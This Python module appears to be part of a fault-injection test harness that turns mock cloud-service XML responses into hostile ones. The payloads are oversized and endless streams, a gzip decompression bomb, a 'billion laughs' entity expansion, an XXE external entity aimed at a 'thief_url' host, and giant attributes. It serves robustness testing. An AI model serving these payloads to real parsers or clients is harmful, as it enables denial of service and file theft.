# SPDX-License-Identifier: ISC
"""Answers that no service gives: too big, without end, or XML that bites."""

import zlib

GIB = 1 << 30
CHUNK = 1 << 16


def parts(call, answer):
    """The answer's head, one item, and its tail."""
    data = answer.body
    at = data.find(b"<item>")
    end = data.rfind(b"</item>")
    if at < 0 or end < 0:
        at = end = data.rindex(b"</")
        item = b"<item><instanceId>i-0123456789abcdef0</instanceId></item>"
        return data[:at], item, data[end:]
    return data[:at], data[at:end + 7], data[end + 7:]


def repeated(item, size):
    block = item * (CHUNK // len(item) + 1)
    for _ in range(0, size, len(block)):
        yield block


def huge(call, fault, answer):
    head, item, tail = parts(call, answer)

    def stream():
        yield head
        yield from repeated(item, fault.number("size", GIB))
        yield tail
    answer.body = stream


def endless(call, fault, answer):
    head, item, _ = parts(call, answer)

    def stream():
        yield head
        while True:
            yield from repeated(item, GIB)
    answer.body = stream


def bomb(call, fault, answer):
    head, _, tail = parts(call, answer)

    def stream():
        squeeze = zlib.compressobj(9, zlib.DEFLATED, 31)
        yield squeeze.compress(head)
        for block in repeated(b"<x>0</x>", fault.number("size", GIB)):
            yield squeeze.compress(block)
        yield squeeze.compress(tail) + squeeze.flush()
    answer.body = stream
    answer.headers.append(("Content-Encoding", "gzip"))


def declared(answer, doctype, text=b""):
    at = answer.body.index(b"?>") + 2
    answer.body = answer.body[:at] + b"\n" + doctype + \
        answer.body[at:].replace(b"<requestId>", b"<requestId>" + text)


def root_of(answer):
    at = answer.body.index(b"<", answer.body.index(b"?>"))
    return answer.body[at + 1:].split(b" ", 1)[0].split(b">", 1)[0]


def doctype(call, fault, answer):
    declared(answer, b"<!DOCTYPE %s>" % root_of(answer))


def laughs(call, fault, answer):
    lines = [b'<!ENTITY l0 "ha">']
    for n in range(1, 10):
        lines.append(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10))
    declared(answer, b"<!DOCTYPE %s [%s]>" % (root_of(answer),
                                              b"".join(lines)), b"&l9;")


def entity(call, fault, answer):
    declared(answer, b'<!DOCTYPE %s [<!ENTITY e SYSTEM "%s">]>' % (
        root_of(answer), call.world.thief_url.encode()), b"&e;")


def attribute(call, fault, answer):
    size = fault.number("size", 20 << 20)
    answer.body = answer.body.replace(
        b"<requestId>", b'<requestId x="' + b"a" * size + b'">', 1)


def text(call, fault, answer):
    size = fault.number("size", 32 << 20)
    answer.body = answer.body.replace(
        b"<requestId>", b"<requestId>" + b"a" * size, 1)


KINDS = {"huge": huge, "endless": endless, "bomb": bomb, "doctype": doctype,
         "laughs": laughs, "entity": entity, "attribute": attribute,
         "text": text}
